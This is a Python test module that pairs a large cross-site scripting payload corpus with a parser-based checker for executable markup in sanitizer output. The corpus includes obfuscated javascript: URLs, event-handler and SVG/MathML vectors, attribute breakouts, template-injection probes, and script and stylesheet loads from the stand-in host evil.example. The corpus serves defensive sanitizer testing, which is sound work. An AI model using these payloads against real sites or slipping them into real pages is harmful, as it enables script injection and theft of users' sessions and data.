"""An XSS corpus and a parser-based checker for "no executable markup reached the output".

The vectors cover the usual families (script tags, event handlers, dangerous URL schemes with
case/whitespace/entity/encoding tricks, SVG/MathML, embedding elements, CSS, meta/base, broken
markup, attribute breakouts, template injection, unicode tricks). The checker parses output
with :mod:`html.parser` (which decodes entities in attribute values the way a browser does) and
fails on anything a browser would execute.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

VECTORS: list[str] = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)></script>",
    "<<script>alert(1)//<</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<a href='#' onclick=\"alert(1)\">x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<p/onmouseover=alert(1)>x</p>",
    # javascript: / data: / vbscript: with tricks
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\x00script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "  JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "%6Aavascript:alert(1)",
    # SVG / MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=0 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # embedding
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    # CSS
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    # meta / base
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"http://evil.example/\">",
    # broken / unclosed markup
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<a href=\"javascript:alert(1)",
    "<div <script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=`x` onerror=alert(1)>",
    "<a href=javascript:alert(1)>x",
    "<<img src=x onerror=alert(1)//>",
    # attribute injection through quotes
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "x\" style=\"behavior:url(x.htc)",
    # template injection
    "{{7*7}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "{{ config }}",
    # unicode tricks
    "<a href=\"\u202ejavascript:alert(1)\">x</a>",
    "<a href=\"java\u200bscript:alert(1)\">x</a>",
    "<a href=\"\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)\">x</a>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "\ufeff<script>alert(1)</script>",
]

BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background",
    "data", "cite", "lowsrc", "dynsrc", "ping", "srcdoc",
}
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "meta", "base", "style", "svg", "math", "link",
    "frame", "frameset", "applet", "form", "template", "noscript", "xml", "import",
}
_STRIP = re.compile(r"[\x00-\x20\x7f]")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _kernel_script(attrs: list[tuple[str, str | None]]) -> bool:
    """The page's own scripts (``<script src="/assets/…" defer>``, the forms' enhancements):
    no inline code, from the site's own assets, nothing else set."""
    named = dict(attrs)
    return (set(named) <= {"src", "defer"} and (named.get("src") or "").startswith("/assets/")
            and "/.." not in (named.get("src") or ""))


def problems(output: str, *, allowed_tags: frozenset[str] = frozenset()) -> list[str]:
    """Everything executable in ``output``; an empty list means it is safe."""
    parser = _Collector()
    parser.feed(output)
    parser.close()
    found: list[str] = []
    for tag, attrs in parser.tags:
        if tag == "script" and _kernel_script(attrs):
            continue
        if tag in FORBIDDEN_TAGS and tag not in allowed_tags:
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}>")
            if name == "style":
                found.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and value is not None:
                # The parser decoded entities once (as a browser does); decode again and drop
                # whitespace/control characters to be stricter than any browser.
                normalized = _STRIP.sub("", html.unescape(value)).lower()
                if normalized.startswith(BAD_SCHEMES):
                    found.append(f"<{tag} {name}={value!r}>")
    return found


_EVALUATED = re.compile(r"(?<![\w:.-])49(?![\w:.-])")


def assert_safe(output: str, vector: str, *, allowed_tags: frozenset[str] = frozenset()) -> None:
    found = problems(output, allowed_tags=allowed_tags)
    assert not found, f"vector {vector!r} produced {found} in {output!r}"
    # Template injection: the kernel must never evaluate text as a template. "49" standing
    # alone, that is: inside an id, a token or a time ("949a", "07:49") it is chance.
    if "7*7" in vector:
        assert not _EVALUATED.search(output), f"vector {vector!r} was evaluated: {output!r}"
    assert "<class " not in output, f"vector {vector!r} was evaluated: {output!r}"
